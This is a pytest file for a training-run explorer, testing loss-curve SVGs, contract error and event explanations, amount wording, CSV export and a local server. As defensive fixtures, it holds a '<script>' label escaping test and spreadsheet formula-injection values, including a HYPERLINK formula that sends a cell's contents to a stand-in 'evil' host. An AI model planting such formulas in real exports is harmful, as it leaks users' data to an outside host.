"""Parts of the explorer that need no run: the curve, the codes, the server."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import threading
import time
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from unittest.mock import Mock

import pytest

from assay.amounts import Currency
from assay.explorer.api_parts import DIVERGED, losses_document
from assay.explorer.chart import MOST_POINTS, loss_chart
from assay.explorer.codes import STANDING_CODES, all_codes, event_meaning, find_code
from assay.explorer.losses import AGAIN_AFTER_S, Losses, Point, Wanted, Weigh
from assay.explorer.reader import RunReader
from assay.explorer.tables import flat, to_csv
from assay.explorer.words import AMOUNTS, AmountWords, shares, shares_exactly, span
from assay.protocol.digests import keccak
from assay.protocol.errors import UnavailableError
from assay.protocol.types import Address, Digest
from assay_ledger.chain import natspec
from assay_ledger.chain.contract_names import MET
from assay_ledger.deployment.places import GOVERNOR, ROUND_CONTRACTS
from tests.harness.contracts.fresh import fresh_artifacts

ROOT = Path(__file__).resolve().parents[3]
EVENT = re.compile(r"((?: *///.*\n)+) *event \w+\(([^;]*)\);")
"""An event in an interface: what is said of it, and its arguments."""


def root(name: str) -> Digest:
    return keccak(name.encode())


def point(step: int, loss: float | None) -> Point:
    return Point(Wanted(root(f"{step}"), step, f"at {step}"), loss)


# --- the curve


def test_the_curve_is_well_formed_and_every_point_lies_inside_it() -> None:
    points = [point(0, 4.6), point(25, 3.2), point(50, 2.9), point(75, None)]
    svg = loss_chart(points, 3.24, 25)
    assert svg is not None
    tree = ET.fromstring(svg)
    width, height = (float(v) for v in tree.attrib["viewBox"].split()[2:])
    circles = tree.findall("circle")
    assert len(circles) == 3
    for circle in circles:
        assert 0 <= float(circle.attrib["cx"]) <= width
        assert 0 <= float(circle.attrib["cy"]) <= height
    heights = [float(c.attrib["cy"]) for c in circles]
    assert heights == sorted(heights), "a lower loss stands lower"
    (line,) = tree.findall("polyline")
    assert len(line.attrib["points"].split()) == 3


@pytest.mark.parametrize("points", [[], [point(0, None)], [point(0, float("nan"))]])
def test_there_is_no_curve_without_a_loss(points: list[Point]) -> None:
    assert loss_chart(points, 3.0, 25) is None


@pytest.mark.parametrize("points", [[point(0, 2.0)], [point(0, 2.0), point(25, 2.0)], [point(25, 1e9), point(0, 0.0)]])
def test_odd_curves_are_drawn_as_well(points: list[Point]) -> None:
    assert ET.fromstring(loss_chart(points, None, 25) or "") is not None


def test_a_long_curve_is_drawn_by_few_points_the_first_and_the_newest_among_them() -> None:
    for count in (MOST_POINTS - 1, MOST_POINTS, 2 * MOST_POINTS, 10_001):
        svg = loss_chart([point(25 * k, 5 - k / 5_000) for k in range(count)], None, 25)
        titles = re.findall("<title>at ([0-9]+):", svg or "")
        assert (titles[0], titles[-1]) == ("0", str(25 * (count - 1)))
        assert min(count, MOST_POINTS) // 2 < len(set(titles)) == len(titles) <= MOST_POINTS


def test_what_is_known_of_a_long_run_is_looked_up_in_one_pass() -> None:
    wanted = [Wanted(root(f"{k}"), 25 * k, f"generation {k}") for k in range(20_000)]
    losses = Losses(lambda: (lambda _: 2.5, 3.0))
    losses.points(wanted)
    losses.wait()
    began = time.thread_time()
    assert all(p.loss == 2.5 for p in losses.points(wanted))
    assert time.thread_time() - began < 3, "pages wait while the front page is made"


def test_labels_are_escaped() -> None:
    bad = Point(Wanted(root("x"), 0, "<script>&"), 1.0)
    svg = loss_chart([bad], None, 25)
    assert svg is not None
    assert "<script>" not in svg
    ET.fromstring(svg)


# --- losses in the background


def test_each_weight_is_evaluated_once_and_what_is_missing_stays_open() -> None:
    calls: list[Digest] = []

    def weigh(of: Digest) -> float:
        calls.append(of)
        if of == root("gone"):
            raise UnavailableError("not in the store")
        return 2.5

    losses = Losses(lambda: (weigh, 3.0))
    wanted = [
        Wanted(root("a"), 0, "genesis"),
        Wanted(root("gone"), 25, "generation 1"),
        Wanted(root("b"), 50, "generation 2"),
    ]
    losses.points(wanted)
    losses.wait()
    for _ in range(2):
        found = losses.points(wanted)
        losses.wait()
    assert [p.loss for p in found] == [2.5, None, 2.5]
    assert calls == [root("a"), root("gone"), root("b")]
    assert losses.letter_entropy == 3.0


@pytest.mark.parametrize("first", [2.5, math.nan])
def test_a_loss_that_is_no_number_is_none_and_said(first: float) -> None:
    """Bad luck: one generation that diverged, and the page of losses answered with an error for ever."""
    of = {root("a"): first, root("b"): math.inf}
    losses, wanted = (
        Losses(lambda: (of.__getitem__, None)),
        [
            Wanted(root("a"), 0, "genesis"),
            Wanted(root("b"), 25, "generation 1"),
        ],
    )
    losses.points(wanted)
    losses.wait()
    document = json.loads(json.dumps(losses_document(losses, lambda: wanted), allow_nan=False))
    assert [(p["loss"], p["diverged"]) for p in document["points"]] == [
        (None, True) if math.isnan(first) else (2.5, False),
        (None, True),
    ]
    assert document["reason"] == (DIVERGED if math.isnan(first) else None)
    chart = loss_chart(losses.points(wanted), None, 25)
    assert (chart is None) == math.isnan(first) and "nan" not in (chart or "") and "inf" not in (chart or "")


def test_without_text_or_torch_the_page_gets_a_reason() -> None:
    def fail() -> tuple[object, float]:
        raise UnavailableError("There is no card.", remedy="Ask the sponsor.")

    losses = Losses(fail)  # type: ignore[arg-type]
    losses.points([Wanted(root("a"), 0, "genesis")])
    losses.wait()
    assert losses.points([])[:1] == []
    assert losses.reason == "There is no card. Ask the sponsor."


def test_weights_that_fit_no_module_end_no_thread_and_are_said() -> None:
    """Attack: a card that names another preset than the run's. A thread that died of it was started by every look."""
    made: list[bool] = []

    def make() -> tuple[Weigh, None]:
        made.append(True)
        return lambda root: int(root.hex()[:0]) * 1.0, None

    losses, wanted = Losses(make), [Wanted(root(f"{k}"), 25 * k, f"generation {k}") for k in range(3)]
    for _ in range(3):
        losses.points(wanted)
        losses.wait()
    assert len(made) == 1
    assert "makes no sense (ValueError" in losses_document(losses, lambda: wanted)["reason"]

    def fail() -> tuple[Weigh, None]:
        raise ZeroDivisionError("of a card")

    losses = Losses(fail)
    losses.points(wanted)
    losses.wait()
    assert "ZeroDivisionError" in losses_document(losses, lambda: wanted)["reason"]


def test_only_the_loss_of_a_text_is_said_to_be_in_nats_of_a_character() -> None:
    of_text, of_images = (loss_chart([point(0, 2.0), point(25, 1.0)], entropy, 25) or "" for entropy in (3.2, None))
    assert "1.000 nats per character" in of_text and "2.0000 nats<" in of_text and "nats" not in of_images


def test_a_store_that_was_away_for_a_moment_hides_no_curve_for_good() -> None:
    now, is_away, tried = [1000.0], [True], list[str]()

    def weigh(_root: Digest) -> float:
        tried.append("weights")
        if is_away[0]:
            raise UnavailableError("The store does not answer.")
        return 2.5

    def make() -> tuple[Weigh, float | None]:
        tried.append("card")
        if len(tried) == 1:
            raise UnavailableError("The store does not answer.")
        return weigh, None

    losses, wanted = Losses(make, lambda: now[0]), [Wanted(root("a"), 0, "genesis")]

    def looked() -> tuple[str | None, float | None]:
        losses.points(wanted)
        losses.wait()
        return losses.reason, losses.points(wanted)[0].loss

    assert looked() == looked() == ("The store does not answer.", None) and tried == ["card"]
    now[0] += AGAIN_AFTER_S + 1
    assert looked() == looked() == (None, None) and tried == ["card", "card", "weights"]
    is_away[0] = False
    now[0] += AGAIN_AFTER_S + 1
    assert looked() == (None, 2.5)


# --- codes


def declared(kind: str) -> set[str]:
    """Names of the errors or events that the contracts declare, tests left out."""
    found = set()
    for path in (ROOT / "contracts").rglob("*.sol"):
        if "test" not in path.relative_to(ROOT / "contracts").parts:
            found |= set(re.findall(rf"^\s*{kind} (\w+)\(", path.read_text(), re.MULTILINE))
    return found


@pytest.fixture(scope="module")
def compiled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """The contracts as the sources stand now, with what they say of themselves."""
    with fresh_artifacts(tmp_path_factory.mktemp("artifacts"), MET):
        yield


@pytest.mark.parametrize("kind", ["error", "event"])
def test_what_contracts_declare_is_explained_in_their_words_and_nothing_else(compiled: None, kind: str) -> None:
    assert declared(kind) == set(natspec.names(kind))


def test_every_contract_that_a_run_deploys_explains_what_it_throws() -> None:
    deployed = {*ROUND_CONTRACTS.values(), *GOVERNOR.values()}
    around = {"RunDeployer", "RunCharter", "GroupedGenerations", "DrandSeed", "PrevrandaoSeed", "TestToken"}
    beside = {"Vouchers", "AnswerDeployer", "AnswerCharter", "Gateways"}
    assert deployed | around | beside == set(MET)


def test_every_explanation_is_a_sentence_and_a_remedy(compiled: None) -> None:
    sentences = [s for name in natspec.names("error") for s in natspec.sentences("error", name)]
    assert len(sentences) > 125
    for meaning, remedy in [*((s.notice, s.remedy) for s in sentences), *STANDING_CODES.values()]:
        assert meaning[0].isupper()
        assert meaning.endswith(".")
        assert remedy.endswith(".")


def test_contracts_that_throw_one_name_for_other_reasons_each_say_theirs(compiled: None) -> None:
    found = find_code("toolate")
    assert found is not None
    assert {contract for sentences in found.sentences for contract in sentences.contracts} == {
        "Game",
        "Commitments",
        "Generations",
        "GroupedGenerations",
        "Duties",
    }
    for sentences in found.sentences:
        assert sentences.notice in found.meaning
        assert sentences.remedy in found.remedy


def test_an_event_is_told_in_the_words_of_the_contract_that_emitted_it(compiled: None) -> None:
    assert "stake" in event_meaning("vault", "Deposited")
    assert "revenue" in event_meaning("revenue", "Deposited")
    assert event_meaning("shares", "Transfer") == ""
    assert event_meaning("escrow", "Funded") == "Somebody funded the run."
    assert event_meaning("generations", "NodeOpened") != "", "above 64 seats another contract stands there"
    assert event_meaning("challenges", "ChallengeCommitted").startswith("Somebody committed")
    assert event_meaning("beacon", "BeaconSubmitted") != ""
    assert event_meaning("tickets", "Deposited") == "", "another contract's event is not told in its words"


def test_codes_of_our_own_are_found_in_any_spelling(compiled: None) -> None:
    assert {
        "NodeUnreachable",
        "BundleMalformed",
        "ObjectMissing",
        "StartMismatch",
        "NotAuditedYet",
    } <= all_codes().keys()
    found = find_code("nodeunreachable")
    assert found is not None
    assert found.remedy
    assert find_code("NoSuchCodeAtAll") is None


# --- words


def test_amounts_and_times_are_written_for_people() -> None:
    usdc, token, other = Currency(6, "USDC"), Address(b"\1" * 20), Address(b"\2" * 20)
    said = AmountWords({token: usdc, other: Currency(None)}.__getitem__, token)
    assert said.amount(1_234_567_000) == "1 234.57" and said.amount("42") == "0.000042"
    assert said.exact(10**6 + 1) == "1.000001"
    assert said.argument("2500000", "amount", "revenue", "0x" + token.hex()) == "2.5 tokens"
    assert said.argument("2500000", "amount", "revenue", "0x" + other.hex()) == "2500000wei tokens"
    assert said.argument(str(10**18), "amount", "grants") == "1 shares"
    assert said.argument(10**18, "shares", "payments") == "1"
    assert shares(1_234_567 * 10**15) == "1 234.57" and shares_exactly(10**18 + 1) == "1.000000000000000001"
    assert span(3_725) == "1 h 2 min"
    assert span(0) == "0 s"
    assert span(-61) == "-1 min 1 s"


def test_only_what_a_contract_gives_in_wei_is_written_as_tokens() -> None:
    """Else a count of deferrals reads as 0.000000000000000002 tokens."""
    said = AmountWords(lambda _: Currency(18), Address(b"\1" * 20))
    assert said.argument(2, "left", "game") == "2"
    assert (said.argument(True, "burned", "challenges"), said.argument(False, "burned", "challenges")) == ("yes", "no")
    in_wei, others = set[str](), set[str]()
    for path in (ROOT / "contracts" / "interfaces").glob("*.sol"):
        for notes, arguments in EVENT.findall(path.read_text()):
            told = dict(re.findall(r"@param (\w+) (.*)", notes))
            for kind, name in re.findall(r"(\w+)(?: indexed)? (\w+)(?:,|$)", arguments.strip()):
                if kind != "bool" and re.search(r"\bwei\b", told.get(name, "")):
                    in_wei.add(name)
                elif kind != "bool" and name in AMOUNTS:
                    others.add(f"{path.stem} {name}")
    assert not others and in_wei == AMOUNTS | {"shares"}


def test_shares_that_move_and_votes_are_written_as_shares() -> None:
    said = AmountWords(lambda _: Currency(6), Address(b"\1" * 20))
    for contract, name in (("grants", "amount"), ("shares", "value"), ("governor", "weight")):
        assert said.argument(str(5 * 10**17), name, contract) == "0.5 shares"
    assert said.argument(1_796_014_948, "t0", "commitments") == "2026-11-30 05:02:28"


def test_no_cell_of_a_table_is_a_formula() -> None:
    """Attack: a vote whose reason an owner's program for tables computes, and which sends what is beside it."""
    texts = ['=HYPERLINK("http://evil/?"&A1)', "@SUM(A1)", "+1+1", "-A1", "\t=1"]
    lines = list(csv.reader(io.StringIO(to_csv([flat({"reason": text, "amount": "-5"}) for text in texts]))))
    assert lines == [["reason", "amount"], *(["'" + text, "-5"] for text in texts)]
    assert to_csv([flat({"reason": "less = more", "list": ["=1", 2]})]).splitlines()[1] == "less = more,'=1 2"


# --- the server


def test_a_port_in_use_is_named_with_its_remedy() -> None:
    import socket

    from assay.explorer.server import serve
    from assay.protocol.errors import ConfigError

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        with pytest.raises(ConfigError) as caught:
            serve(None, None, taken.getsockname()[1])  # type: ignore[arg-type]
    assert caught.value.code == "PortInUse"
    assert caught.value.remedy


def test_threads_of_a_closed_server_are_gone(monkeypatch: pytest.MonkeyPatch) -> None:
    from fastapi import FastAPI

    from assay.explorer import server

    small = FastAPI()
    small.get("/")(lambda: {"hello": "world"})
    silent = Mock(spec=RunReader)
    monkeypatch.setattr(server, "RunReader", lambda *_, **__: silent)
    monkeypatch.setattr(server, "make_app", lambda _: small)
    before = threading.active_count()
    with server.serve(None) as running:  # type: ignore[arg-type]
        with urllib.request.urlopen(running.url, timeout=10) as answer:
            assert answer.read() == b'{"hello":"world"}'
        assert running.port > 0
    assert not running._thread.is_alive()
    assert threading.active_count() <= before + 1
    silent.stop.assert_called_once()
